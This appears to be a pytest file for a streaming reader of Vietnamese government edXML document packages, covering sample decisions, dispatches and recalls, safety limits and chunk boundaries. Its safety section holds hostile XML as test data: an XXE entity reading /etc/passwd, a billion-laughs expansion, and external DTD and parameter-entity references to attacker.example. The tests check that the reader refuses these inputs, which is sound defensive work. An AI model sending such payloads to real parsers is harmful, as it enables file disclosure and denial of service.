"""edXML packages read as a stream, safely (R-SEND-4, R-PROP-2): three real-world shapes,
refusals of unsafe or broken XML, and chunk boundaries anywhere."""

from __future__ import annotations

import pytest

from chalicelib.domain.edxml.reader import PackageReader, UnreadablePackageError, read_package
from chalicelib.domain.edxml.rules import problems
from chalicelib.domain.edxml.xmltree import MAX_TEXT_CHARS, NAMESPACE
from tests.unit.edxml_samples import (
    DECISION,
    DECISION_ANNEX,
    DECISION_PDF,
    DISPATCH,
    DISPATCH_PDF,
    RECALL,
    sha256,
)


def test_a_provincial_decision_to_two_departments_with_two_attachments() -> None:
    package = read_package([DECISION.read_bytes()])
    assert problems(package) == []
    h = package.header
    assert h is not None and h.from_ is not None
    assert h.from_.organ_id == "000.00.00.H30" and h.from_.organ_name == "UBND tỉnh Bắc Giang"
    assert [t.organ_id for t in h.to] == ["000.00.01.H30", "000.00.02.H30"]
    assert h.code is not None and (h.code.code_number, h.code.code_notation) == (
        "1234", "QĐ-UBND")
    assert h.subject == "Về việc phân bổ dự toán ngân sách nhà nước năm 2027"
    assert h.signer_info is not None and h.signer_info.full_name == "Nguyễn Văn An"
    assert h.to_places == ("Như Điều 3", "Lưu: VT, TH")
    assert h.other_info is not None and h.other_info.priority == "0"
    assert h.other_info.appendixes == ("Phụ lục kinh phí phân bổ",)
    assert h.document_id == "000.00.00.H30,2026/11/30,1234/QĐ-UBND"
    assert package.trace_header_list is not None
    assert package.trace_header_list.trace_headers[0].timestamp == "2026/11/30 15:20:05"
    assert [(a.name, a.size, a.sha256, a.in_manifest) for a in package.attachments] == [
        ("QD-1234-UBND.pdf", len(DECISION_PDF), sha256(DECISION_PDF), True),
        ("Phu-luc.txt", len(DECISION_ANNEX), sha256(DECISION_ANNEX), True)]
    assert package.manifest_agrees and package.namespace == NAMESPACE


def test_a_ministry_express_dispatch_to_several_provinces() -> None:
    package = read_package([DISPATCH.read_bytes()])
    assert problems(package) == []
    h = package.header
    assert h is not None and h.other_info is not None and h.document_type is not None
    assert len(h.to) == 4 and h.to[3].organ_name == "UBND thành phố Hải Phòng"
    assert (h.other_info.priority, h.due_date, h.steering_type) == ("3", "2026-12-03", "1")
    assert h.document_type.type_detail == "Công điện hỏa tốc"
    traces = package.trace_header_list
    assert traces is not None and traces.bussiness is not None
    assert [t.organ_id for t in traces.trace_headers] == ["000.00.00.G14", "000.00.00.G22"]
    assert traces.bussiness.staff_info is not None
    assert traces.bussiness.staff_info.staff == "Lê Văn Cường"
    (attachment,) = package.attachments
    assert attachment.sha256 == sha256(DISPATCH_PDF) and attachment.in_manifest


def test_a_recall_of_an_earlier_document_without_attachments() -> None:
    package = read_package([RECALL.read_bytes()])
    assert problems(package) == []
    traces = package.trace_header_list
    assert traces is not None and traces.bussiness is not None
    assert traces.bussiness.bussiness_doc_type == "1"
    assert traces.bussiness.bussiness_doc_reason == (
        "Ban hành nhầm đối tượng, thu hồi để ban hành lại")
    assert package.header is not None
    assert package.header.document_id == "000.00.00.H30,2026/11/30,1234/QĐ-UBND"
    assert package.attachments == () and package.references == () and package.manifest_agrees


# -- safety: nothing in a DOCTYPE is read or resolved ------------------------------------

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE edXML [<!ENTITY leak SYSTEM "file:///etc/passwd">]>
<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016"><Subject>&leak;</Subject></edXML>"""
LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<edXML><Subject>&lol3;</Subject></edXML>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE edXML SYSTEM "http://attacker.example/edxml.dtd">
<edXML><Subject>x</Subject></edXML>"""
PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE edXML [<!ENTITY % remote SYSTEM "http://attacker.example/p.dtd"> %remote;]>
<edXML><Subject>x</Subject></edXML>"""


@pytest.mark.parametrize("data", [XXE, LAUGHS, EXTERNAL_DTD, PARAMETER],
                         ids=["xxe", "billion-laughs", "external-dtd", "parameter-entity"])
def test_unsafe_xml_is_refused_and_nothing_resolved(data: bytes) -> None:
    reader = PackageReader()
    with pytest.raises(UnreadablePackageError) as caught:
        reader.feed(data)
        reader.close()
    problem = caught.value.problem
    assert problem.code == "edxml_unsafe_xml" and problem.path == "DOCTYPE"
    assert "refused" in problem.message and "root:" not in problem.message
    with pytest.raises(UnreadablePackageError):  # it stays refused
        reader.feed(b"<edXML/>")


def test_the_external_dtd_is_named_in_the_problem() -> None:
    with pytest.raises(UnreadablePackageError) as caught:
        read_package([EXTERNAL_DTD])
    assert "http://attacker.example/edxml.dtd" in caught.value.problem.message


@pytest.mark.parametrize(("data", "where"), [
    (b"<edXML><Subject>x</edXML>", "line 1, column 19"),
    (b"", "line 1"),
    (DECISION.read_bytes()[:2000], "line"),
], ids=["mismatched-tag", "empty", "truncated"])
def test_xml_that_is_not_well_formed_is_refused_with_its_place(data: bytes, where: str) -> None:
    with pytest.raises(UnreadablePackageError) as caught:
        read_package([data])
    assert caught.value.problem.code == "edxml_not_well_formed"
    assert where in caught.value.problem.message


def test_a_header_element_past_the_text_limit_is_refused_naming_it() -> None:
    big = b"<edXML><edXMLEnvelope><Subject>" + b"a" * (MAX_TEXT_CHARS + 1)
    with pytest.raises(UnreadablePackageError) as caught:
        read_package([big, b"</Subject></edXMLEnvelope></edXML>"])
    assert caught.value.problem.code == "edxml_limit_exceeded"
    assert caught.value.problem.path == "edXML/edXMLEnvelope/Subject"


def test_absurdly_many_elements_are_refused() -> None:
    many = b"<edXML><edXMLEnvelope>" + b"<Place>x</Place>" * 10_001
    with pytest.raises(UnreadablePackageError) as caught:
        read_package([many])
    assert caught.value.problem.code == "edxml_limit_exceeded"
    assert "10,000 elements" in caught.value.problem.message


def test_an_endless_tag_is_refused_before_it_is_buffered() -> None:
    reader = PackageReader()
    reader.feed(b'<edXML><Attachment Name="')
    with pytest.raises(UnreadablePackageError) as caught:
        for _ in range(40):
            reader.feed(b"a" * 65536)
    assert caught.value.problem.code == "edxml_limit_exceeded"


# -- chunk boundaries ---------------------------------------------------------------------


def _summary(data: bytes, cuts: list[int]) -> tuple[object, ...]:
    reader = PackageReader()
    for start, end in zip([0, *cuts], [*cuts, len(data)], strict=True):
        reader.feed(data[start:end])
    package = reader.close()
    return package.header, package.trace_header_list, package.references, package.attachments


def test_one_byte_at_a_time_reads_the_same_as_whole() -> None:
    data = DECISION.read_bytes()
    assert _summary(data, list(range(1, len(data)))) == _summary(data, [])


@pytest.mark.parametrize("sample", [DISPATCH, RECALL], ids=["dispatch", "recall"])
def test_every_split_point_reads_the_same_as_whole(sample: object) -> None:
    data = sample.read_bytes()  # type: ignore[attr-defined]
    whole = _summary(data, [])
    assert whole[3] or sample is RECALL
    for cut in range(1, len(data)):
        assert _summary(data, [cut]) == whole, cut
